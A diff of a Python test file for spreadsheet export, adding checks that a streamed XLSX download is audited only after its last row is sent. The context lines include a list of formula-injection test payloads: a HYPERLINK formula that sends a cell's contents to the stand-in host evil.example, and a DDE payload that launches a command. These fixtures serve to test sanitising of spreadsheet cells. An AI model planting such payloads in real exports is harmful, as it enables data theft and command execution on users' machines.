@@ -12,6 +12,8 @@ from cases.exports import csv_response, safe_cell, write_csv, write_xlsx, xlsx_r
 from cases.models import AuditEvent
 from monitoring import rosters
 
+from .downloads import response_bytes
+
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
     "+1+cmd|' /C calc'!A0",
@@ -121,6 +123,9 @@ def test_responses_with_a_request_are_audited(rf, db, admin_user, rows):
         "发现.xlsx", HEADERS, rows, request=request, label="monitoring.finding"
     )
     assert response.status_code == 200
+    # Streamed: the event is written once the last row has gone out.
+    assert not AuditEvent.objects.filter(action="export").exists()
+    load_workbook(io.BytesIO(response_bytes(response)))
     event = AuditEvent.objects.get(action="export")
     assert event.details == {
         "filters": {"township": "河口镇"},
